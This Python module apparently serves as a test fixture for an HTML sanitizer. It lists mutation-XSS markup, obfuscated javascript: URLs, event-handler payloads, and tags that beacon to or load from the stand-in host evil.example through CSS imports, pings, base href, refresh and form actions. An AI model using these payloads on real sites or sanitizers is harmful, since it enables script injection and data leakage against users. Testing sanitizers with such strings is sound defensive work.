"""Markup that might mean one thing to the parser that cleans it and another to the browser that shows it."""

_RUN = "<img src=//evil.example/x onerror=alert(1)>"
_SHUT = ("style", "title", "textarea", "noscript", "noembed", "noframes", "xmp", "iframe", "script", "select")
_FOREIGN = ("svg", "math")
_BRIDGES = (
    "<svg><foreignObject>",
    "<svg><desc>",
    "<svg><title>",
    "<math><mtext>",
    "<math><mi>",
    "<math><ms>",
    "<math><annotation-xml encoding=text/html>",
    "<math><annotation-xml encoding=application/xhtml+xml>",
    "<math><annotation-xml>",
)

# An attribute that holds the end of an element whose content is text in HTML and elements in foreign markup.
_ENDED = [
    f"{outside}<{shut}><a title='</{shut}>{_RUN}'>x</a>" for outside in ("", *_BRIDGES) for shut in _SHUT
]
_COMMENTED = [
    f"<{foreign}><{shut}><!--</{shut}>{_RUN}-->" for foreign in _FOREIGN for shut in ("style", "title", "p")
]
_NESTED = [
    f"<form><math><mtext></form><form><mglyph><style></math>{_RUN}",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_RUN}'>",
    f"<math><mtext><table><mglyph><style><math href='</style>{_RUN}'>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{_RUN}'></style></h1>",
    f"<svg></p><style><a id='</style>{_RUN}'>",
    f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--><{_RUN}'>",
    f"<table><td><svg><desc><td></desc><style><a title='</style>{_RUN}'>",
    f"<select><template><style><!--</select><a rel='--></style>{_RUN}'>",
    f"<template><s><template><s>{_RUN}</s></template></s></template>",
    f"<div><template shadowrootmode=open>{_RUN}</template></div>",
    f"<b><p><a><table><a>{_RUN}</b></p>",
    "<div>" * 600 + f"<svg><style><a title='</style>{_RUN}'>" + "</div>" * 600,
    "<a><table>" * 120 + f"<math><mglyph><style><!--</style>{_RUN}",
    f"<p><svg><![CDATA[><{_RUN}]]></svg>",
    f"<math><mi><![CDATA[</mi></math>{_RUN}]]>",
    f"<svg><p/><![CDATA[<style><!--]]></style>{_RUN}-->",
    f"<?xml a='?>{_RUN}'?>",
    f"<!doctype a '>{_RUN}'>",
    f"<!-- --!>{_RUN}<!-- -->",
    f"<!---!>{_RUN}-->",
    f"<![if true]>{_RUN}<![endif]>",
    f"</p/{_RUN}>",
    f"<%{_RUN}%>",
    f"<x title='`'>`{_RUN}</x>",
    f'<br title="&quot;&gt;{_RUN.replace("<", "&lt;")}">',
    _RUN.replace("<", "&lt;"),
    _RUN.replace("<", "&amp;lt;"),
    _RUN.replace("<", "&#60").replace(">", "&#62;"),
    _RUN.replace("<", "\uff1c"),
    f"<im\x00g src=x onerror=alert(1)>{_RUN[:-1]}",
]
_ADDRESSES = [
    *(
        f"<a href={quote}{address}{quote}>a</a><img src={quote}{address}{quote}>"
        for quote in ('"', "'")
        for address in (
            "java&Tab;script:alert(1)",
            "java&NewLine;script&colon;alert(1)",
            "&#x1f;javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "\u2028javascript:alert(1)",
            "\u200bjavascript:alert(1)",
            "javascript://news.example/%0aalert(1)",
            "https:javascript:alert(1)",
            "feed:javascript:alert(1)",
            "view-source:javascript:alert(1)",
            "blob:https://evil.example/1",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data&colon;image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "\\\\evil.example\\x",
        )
    ),
    "<img srcset='//evil.example/x 1x, javascript:alert(1) 2x' sizes='1px'>",
    "<picture><source srcset='data:image/svg+xml,<svg/onload=alert(1)>'><img src=x></picture>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><set attributeName=href to='javascript:alert(1)'></set><image href=//evil.example/x></svg>",
    "<math href='javascript:alert(1)'><maction actiontype='statusline#//evil.example'>a</maction>",
    "<a href=/ ping=//evil.example/x>a</a><a href=/ target=x download=x onclick=alert(1)>a</a>",
]
_ASIDE = [
    "<style>@import '//evil.example/x'; * { background: url(//evil.example/x) }</style>",
    "<p style='background: url(//evil.example/x); behavior: url(#default#time2)'>a</p>",
    "<link rel=stylesheet href=//evil.example/x><link rel=preload as=image href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example><link rel=import href=//evil.example/x>",
    "<base href=//evil.example/ target=x><meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<form id=f action=//evil.example/x><input name=attributes autofocus onfocus=alert(1)></form>",
    "<video autoplay src=//evil.example/x poster=//evil.example/x onerror=alert(1)><source onerror=alert(1)>",
    "<audio autoplay src=//evil.example/x></audio><track src=//evil.example/x default>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x><applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=//evil.example/x></frameset><portal src=//evil.example/x></portal>",
    "<body background=//evil.example/x onpageshow=alert(1)><table background=//evil.example/x><td>a",
    "<input type=image src=//evil.example/x onerror=alert(1)><isindex action=//evil.example/x>",
    "<dialog open oncancel=alert(1)>a</dialog><p popover id=p onbeforetoggle=alert(1)>a</p>",
    "<marquee onstart=alert(1)>a</marquee><details open ontoggle=alert(1)>a</details>",
    "<p id=body name=forms class=main tabindex=1 autofocus onfocus=alert(1) is=x contenteditable>a</p>",
    "<script type=module>alert(1)</script><script type=speculationrules>{}</script>",
]

MUTATIONS = (*_ENDED, *_COMMENTED, *_NESTED, *_ADDRESSES, *_ASIDE)
